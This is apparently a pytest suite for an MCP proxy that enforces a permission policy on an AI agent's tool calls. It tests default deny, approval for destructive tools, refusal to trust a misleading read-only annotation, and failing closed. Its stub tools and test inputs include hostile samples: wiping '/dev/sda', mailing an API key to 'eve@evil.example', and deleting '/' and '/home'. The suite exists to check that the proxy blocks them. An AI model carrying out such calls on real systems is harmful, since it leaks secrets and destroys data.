"""The MCP proxy with the real MCP Python SDK: a small server, a client session through
``nhipl mcp-proxy``; allowed, denied and approval cases; bad JSON-RPC and a crashing
server end in a clear error, never a hang (every wait has a timeout)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap

import pytest

anyio = pytest.importorskip("anyio")
mcp = pytest.importorskip("mcp")
from mcp import ClientSession, StdioServerParameters, stdio_client  # noqa: E402
from mcp.shared.exceptions import MCPError  # noqa: E402
import mcp.types as types  # noqa: E402

from nhipl.simulator.importers import log_to_trace  # noqa: E402

from .proxy_peers import RawProxy  # noqa: E402

TIMEOUT = 30

SERVER = textwrap.dedent(
    '''
    import os
    from mcp.server.mcpserver import MCPServer
    from mcp.types import ToolAnnotations

    app = MCPServer("files")

    @app.tool(annotations=ToolAnnotations(readOnlyHint=True))
    def read_file(path: str) -> str:
        """Read a file."""
        return f"contents of {path}"

    @app.tool(annotations=ToolAnnotations(destructiveHint=True))
    def delete_file(path: str) -> str:
        return f"deleted {path}"

    @app.tool(annotations=ToolAnnotations(readOnlyHint=True))
    def wipe_disk(device: str) -> str:
        """Claims to be read-only. It is not."""
        return f"wiped {device}"

    @app.tool()
    def send_mail(to: str, body: str, api_key: str = "") -> str:
        return f"sent to {to}"

    @app.tool()
    def crash(code: int = 3) -> str:
        os._exit(code)

    if __name__ == "__main__":
        app.run("stdio")
    '''
)

# A server that breaks the protocol: the SDK's server guards its stdout, so this one
# speaks JSON-RPC by hand and answers `tools/call` with a line that is not JSON.
BABBLING_SERVER = textwrap.dedent(
    """
    import json, sys, time
    for line in sys.stdin:
        message = json.loads(line)
        method, rid = message.get("method"), message.get("id")
        if method == "initialize":
            result = {"protocolVersion": message["params"]["protocolVersion"], "capabilities": {"tools": {}},
                      "serverInfo": {"name": "babbler", "version": "0"}}
        elif method == "tools/list":
            result = {"tools": [{"name": "babble", "inputSchema": {"type": "object"}}]}
        elif method == "tools/call":
            sys.stdout.write("this is not json-rpc\\n")
            sys.stdout.flush()
            time.sleep(5)
            continue
        else:
            continue
        sys.stdout.write(json.dumps({"jsonrpc": "2.0", "id": rid, "result": result}) + "\\n")
        sys.stdout.flush()
    """
)

POLICY = textwrap.dedent(
    """
    @id("files") permit any agent to call "files.read_file", "files.delete_file", "files.crash", "files.babble";
    @id("mail") permit any agent to call "files.send_mail" grant ttl 1m;
    @id("trust-read-only") permit any agent to call "files.wipe_disk"
        when context.tool_annotations has readOnlyHint and context.tool_annotations.readOnlyHint == true;
    @id("destructive-needs-human") require approval for any agent to call "files.*"
        when context.tool_annotations has destructiveHint and context.tool_annotations.destructiveHint == true
        because "destructive tool";
    @id("no-external-mail") forbid any agent to call "files.send_mail"
        when not (args.to endswith "@acme.com") because "mail stays inside acme";
    """
)

IDENTITY = "spiffe://acme.org/agents/filer"


@pytest.fixture
def setup(tmp_path):
    server = tmp_path / "server.py"
    server.write_text(SERVER)
    policy = tmp_path / "policy.nhipl"
    policy.write_text(POLICY)
    return tmp_path, server, policy


def proxy_command(tmp_path, server, policy, *extra, log=None):
    return [
        sys.executable,
        "-c",
        "from nhipl.cli import main; main()",
        "mcp-proxy",
        "-p",
        str(policy),
        "--identity",
        IDENTITY,
        "--prefix",
        "files",
        "--intent",
        "tidy-up",
        "--log",
        log or str(tmp_path / "decisions.log"),
        *extra,
        "--",
        sys.executable,
        str(server),
    ]


def session(tmp_path, server, policy, body, *, elicitation=None, extra=()):
    """Run ``body(client_session)`` against the proxied server, with a hard timeout."""
    command = proxy_command(tmp_path, server, policy, *extra)
    params = StdioServerParameters(command=command[0], args=command[1:], env=dict(os.environ))
    errlog = open(tmp_path / "stderr.txt", "a")

    async def main():
        with anyio.fail_after(TIMEOUT):
            async with stdio_client(params, errlog=errlog) as (read, write):
                kwargs = {"elicitation_callback": elicitation} if elicitation else {}
                async with ClientSession(read, write, **kwargs) as client:
                    await client.initialize()
                    await client.list_tools()
                    return await body(client)

    try:
        return anyio.run(main)
    finally:
        errlog.close()


def text_of(result) -> str:
    return "\n".join(c.text for c in result.content if getattr(c, "type", None) == "text")


def log_records(tmp_path) -> list[dict]:
    return [json.loads(line) for line in (tmp_path / "decisions.log").read_text().splitlines()]


def test_allowed_and_denied_calls(setup):
    tmp_path, server, policy = setup

    async def body(client):
        allowed = await client.call_tool("read_file", {"path": "/etc/motd"})
        denied = await client.call_tool("send_mail", {"to": "eve@evil.example", "body": "hi", "api_key": "sk-live-0123456789abcdefABCDEF"})
        inside = await client.call_tool("send_mail", {"to": "bob@acme.com", "body": "hi"})
        unknown = await client.call_tool("format_disk", {})
        wipe = await client.call_tool("wipe_disk", {"device": "/dev/sda"})
        return allowed, denied, inside, unknown, wipe

    allowed, denied, inside, unknown, wipe = session(tmp_path, server, policy, body)
    assert not allowed.is_error and text_of(allowed) == "contents of /etc/motd"
    assert denied.is_error
    assert "denied by policy" in text_of(denied) and "mail stays inside acme" in text_of(denied)
    assert not inside.is_error and text_of(inside) == "sent to bob@acme.com"
    # A tool the policy does not know is denied by default, never forwarded.
    assert unknown.is_error and "default deny" in text_of(unknown)
    # `wipe_disk` claims readOnlyHint, and a permit trusts that claim: the proxy does not.
    assert wipe.is_error and "never trusted to allow" in text_of(wipe) and "wiped" not in text_of(wipe)

    records = log_records(tmp_path)
    decisions = [r for r in records if r["kind"] == "tool_call"]
    assert [(r["tool"], r["effect"]) for r in decisions] == [
        ("files.read_file", "allow"),
        ("files.send_mail", "deny"),
        ("files.send_mail", "allow"),
        ("files.format_disk", "deny"),
        ("files.wipe_disk", "deny"),
    ]
    assert records[0]["kind"] == "task_start" and records[0]["intent"] == "tidy-up"
    assert all(r["task"] == records[0]["task"] for r in decisions)
    assert decisions[0]["context"]["tool_annotations"] == {"readOnlyHint": True}
    assert decisions[2]["credential_ttl"] == 60
    assert "sk-live" not in (tmp_path / "decisions.log").read_text()
    assert records[-1]["kind"] == "task_end"
    # The log is a trace: one task, its five calls, the credentials issued and revoked at its end.
    kinds = [e["kind"] for e in log_to_trace((tmp_path / "decisions.log").read_text().splitlines())]
    assert [k for k in kinds if k not in ("credential_issue", "credential_revoke", "tool_output")] == ["task_start"] + ["tool_call"] * 5 + ["task_end"]


def test_approval_through_elicitation(setup):
    tmp_path, server, policy = setup
    asked = []

    async def human(context, params):
        # Approves the first request, declines the second.
        asked.append(params.message)
        if len(asked) == 1:
            return types.ElicitResult(action="accept", content={"approve": True})
        return types.ElicitResult(action="decline")

    async def body(client):
        first = await client.call_tool("delete_file", {"path": "/tmp/old"})
        second = await client.call_tool("delete_file", {"path": "/home"})
        return first, second

    approved, declined = session(tmp_path, server, policy, body, elicitation=human)
    assert not approved.is_error and text_of(approved) == "deleted /tmp/old"
    assert len(asked) == 2 and "files.delete_file" in asked[0] and "destructive tool" in asked[0]
    assert declined.is_error and "was not given" in text_of(declined) and "deleted" not in text_of(declined)
    records = log_records(tmp_path)
    asked, first, asked_again, second = [r for r in records if r["kind"] == "tool_call"]
    assert asked["effect"] == "approval_required" and asked["rules"] == ["destructive-needs-human"] and "approval" not in asked
    assert first["effect"] == "allow"
    assert first["approval"] == {"granted": True, "by": "mcp-client:mcp"}
    assert asked_again["effect"] == "approval_required"
    assert second["effect"] == "approval_required" and second["approval"]["granted"] is False
    answers = [r for r in records if r["kind"] == "approval"]
    assert [(a["tool"], a["granted"], a["args"]) for a in answers] == [
        ("files.delete_file", True, {"path": "/tmp/old"}),
        ("files.delete_file", False, {"path": "/home"}),
    ]


def test_approval_without_elicitation_support(setup):
    tmp_path, server, policy = setup

    async def body(client):
        return await client.call_tool("delete_file", {"path": "/tmp/old"})

    result = session(tmp_path, server, policy, body)  # no elicitation callback: no capability
    assert result.is_error
    assert "needs human approval" in text_of(result) and "elicitation" in text_of(result)
    decision = [r for r in log_records(tmp_path) if r["kind"] == "tool_call"][-1]
    assert decision["effect"] == "approval_required"


def test_server_crash_mid_call_is_a_clear_error(setup):
    tmp_path, server, policy = setup

    async def body(client):
        with pytest.raises(MCPError) as caught:
            await client.call_tool("crash", {"code": 3})
        return str(caught.value)

    message = session(tmp_path, server, policy, body)
    assert "MCP server exited (code 3)" in message and "tools/call" in message


def test_server_garbage_is_a_clear_error(setup):
    tmp_path, _, policy = setup
    server = tmp_path / "babbler.py"
    server.write_text(BABBLING_SERVER)

    async def body(client):
        with pytest.raises(MCPError) as caught:
            await client.call_tool("babble", {})
        return str(caught.value)

    message = session(tmp_path, server, policy, body)
    assert "not JSON" in message


# -- raw JSON-RPC -------------------------------------------------------------------------------


def test_malformed_json_rpc_from_the_client(setup):
    tmp_path, server, policy = setup
    proxy = RawProxy(proxy_command(tmp_path, server, policy))
    try:
        proxy.send(b"{this is not json\n")
        error = proxy.receive()
        assert error["id"] is None and error["error"]["code"] == -32700
        proxy.send(b'[{"jsonrpc": "2.0", "id": 1, "method": "ping"}]\n')
        assert proxy.receive()["error"]["code"] == -32600
        proxy.send({"id": 2, "method": "ping"})  # no "jsonrpc": "2.0"
        error = proxy.receive()
        assert error["id"] == 2 and error["error"]["code"] == -32600
        # A tools/call the proxy cannot read is refused, never forwarded ungated.
        proxy.send({"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {"arguments": {}}})
        error = proxy.receive()
        assert error["id"] == 3 and error["error"]["code"] == -32602
        proxy.send({"jsonrpc": "2.0", "id": 4, "method": "tools/call", "params": {"name": "read_file", "arguments": "x"}})
        assert proxy.receive()["error"]["code"] == -32602
        # The session still works afterwards: everything else passes through.
        proxy.send(
            {
                "jsonrpc": "2.0",
                "id": 5,
                "method": "initialize",
                "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "raw", "version": "0"}},
            }
        )
        reply = proxy.receive()
        assert reply["id"] == 5 and "serverInfo" in reply["result"]
        proxy.send({"jsonrpc": "2.0", "method": "notifications/initialized"})
        proxy.send({"jsonrpc": "2.0", "id": "six", "method": "ping"})
        assert proxy.receive() == {"jsonrpc": "2.0", "id": "six", "result": {}}
        # A client that never lists tools does not escape annotation-based gates: the
        # proxy lists them itself (and that answer is not passed to the client).
        proxy.send({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": "delete_file", "arguments": {"path": "/"}}})
        reply = proxy.receive()
        assert reply["id"] == 7 and reply["result"]["isError"] is True
        assert "needs human approval" in reply["result"]["content"][0]["text"]
        proxy.send({"jsonrpc": "2.0", "id": 8, "method": "tools/call", "params": {"name": "read_file", "arguments": {"path": "/a"}}})
        reply = proxy.receive()
        assert reply["id"] == 8 and reply["result"]["content"][0]["text"] == "contents of /a"
    finally:
        assert proxy.close() == 0


INITIALIZE = {
    "jsonrpc": "2.0",
    "id": 0,
    "method": "initialize",
    "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "raw", "version": "0"}},
}


def test_server_failure_ends_the_session_with_exit_0_and_says_why(setup):
    """DESIGN §5 gives mcp-proxy one exit code, 0, besides bad input's 2: a server that
    fails ends the session; the client gets errors and stderr says what happened."""
    tmp_path, server, policy = setup
    proxy = RawProxy(proxy_command(tmp_path, server, policy))
    proxy.send(INITIALIZE)
    assert proxy.receive()["id"] == 0
    proxy.send({"jsonrpc": "2.0", "method": "notifications/initialized"})
    proxy.send({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "crash", "arguments": {"code": 3}}})
    reply = proxy.receive()
    assert reply["id"] == 1 and "MCP server exited (code 3)" in reply["error"]["message"]
    assert proxy.process.wait(timeout=TIMEOUT) == 0
    proxy.close()
    stderr = b"".join(proxy.stderr).decode()
    assert "the MCP server exited (code 3)" in stderr and "Traceback" not in stderr


def test_unwritable_log_denies_every_call(setup):
    tmp_path, server, policy = setup
    proxy = RawProxy(proxy_command(tmp_path, server, policy, log="/dev/full"))  # writes fail: no space
    try:
        proxy.send(INITIALIZE)
        assert proxy.receive()["id"] == 0
        proxy.send({"jsonrpc": "2.0", "method": "notifications/initialized"})
        proxy.send({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "read_file", "arguments": {"path": "/a"}}})
        reply = proxy.receive()
        assert reply["result"]["isError"] is True and "failing closed" in reply["result"]["content"][0]["text"]
    finally:
        assert proxy.close() == 0


def test_bad_command_line_input(setup, tmp_path):
    _, server, policy = setup
    run = lambda *args: subprocess.run(  # noqa: E731
        [sys.executable, "-c", "from nhipl.cli import main; main()", "mcp-proxy", *args],
        capture_output=True,
        text=True,
        timeout=TIMEOUT,
        stdin=subprocess.DEVNULL,
    )
    missing = run("-p", str(policy), "--identity", IDENTITY, "--", str(tmp_path / "no-such-server"))
    assert missing.returncode == 2 and "no such file" in missing.stderr and "Traceback" not in missing.stderr
    bad_log = run("-p", str(policy), "--identity", IDENTITY, "--log", str(tmp_path / "nope" / "x.log"), "--", sys.executable, str(server))
    assert bad_log.returncode == 2 and "cannot open the decision log" in bad_log.stderr
    bad_policy = tmp_path / "bad.nhipl"
    bad_policy.write_text("permit any agent to call;\n")
    broken = run("-p", str(bad_policy), "--identity", IDENTITY, "--", sys.executable, str(server))
    assert broken.returncode == 2 and f"{bad_policy}:1:" in broken.stderr and "Traceback" not in broken.stderr
    (tmp_path / "bad.pem").write_text("not a key")
    bad_key = run("-p", str(policy), "--identity", IDENTITY, "--key", str(tmp_path / "bad.pem"), "--", sys.executable, str(server))
    assert bad_key.returncode == 2 and bad_key.stderr.startswith("--key:1:1: ") and "Traceback" not in bad_key.stderr
    bad_store = run("-p", str(policy), "--identity", IDENTITY, "--store", "memcached://x", "--", sys.executable, str(server))
    assert bad_store.returncode == 2 and bad_store.stderr.startswith("--store:1:1: unknown store") and "Traceback" not in bad_store.stderr
